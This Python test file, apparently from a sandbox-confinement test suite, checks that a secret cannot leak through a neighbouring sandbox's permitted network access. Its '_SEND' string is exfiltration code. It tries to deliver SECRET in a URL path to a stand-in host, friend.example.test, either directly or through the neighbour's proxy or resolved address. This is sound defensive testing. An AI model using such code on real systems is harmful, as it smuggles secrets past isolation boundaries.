"""A secret cannot leave by what another sandbox of the same process may do: one gateway serves them all."""

from __future__ import annotations

from contextlib import contextmanager

from support.confinement import PYTHON
from support.net_leaks import leak
from support.net_runs import ALLOWED, GRANTS, LeakyPlace, on_every_backend
from support.net_servers import TalkativeSink

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from support.net_runs import Place

#: Permitted to the other one alone.
FRIEND = "friend.example.test"
#: Where its network leads: the address that it was given for the name, or its proxy with the token.
_TELL = f"""
import os, socket
print(os.environ.get("https_proxy") or socket.gethostbyname({FRIEND!r}))
"""
_SEND = f"""
def send(stream):
    with stream:
        get(stream, {FRIEND!r}, "/" + SECRET)
        return listen(stream)
attempt(lambda: send(dial({FRIEND!r}, 80)))
if "://" in told:
    PROXY = told
    attempt(lambda: send(dial({FRIEND!r}, 80)))
elif told:
    attempt(lambda: send(socket.create_connection((told, 80), 5)))
"""


@contextmanager
def _neighbour(place: Place) -> Iterator[str]:
    """Another sandbox, that may reach the friend, and has; what it knows of its network."""
    if isinstance(place, LeakyPlace):
        yield ""
        return
    grants = (*GRANTS, f"network:http:{FRIEND}")
    with place.sandbox(grants=grants).session() as session:
        told = session.run((PYTHON, "-I", "-S", "-c", _TELL)).check().stdout.strip()
        session.run(("curl", "-sSf", f"http://{FRIEND}/from-the-neighbour")).check()
        yield told


@on_every_backend
def test_by_the_name_the_address_or_the_proxy_of_a_neighbour(place: Place) -> None:
    with TalkativeSink() as sink:
        place.site.names.lead(FRIEND, 80, sink.where)
        with _neighbour(place) as told:
            if told:
                assert sink.has("from-the-neighbour")  # it may, and it works

            leak(place, _SEND, sink, told=told)

        assert not sink.has("s3cr3t5e7q")
    asked = set(place.site.names.asked)
    assert asked == ({ALLOWED, FRIEND} if told else asked)
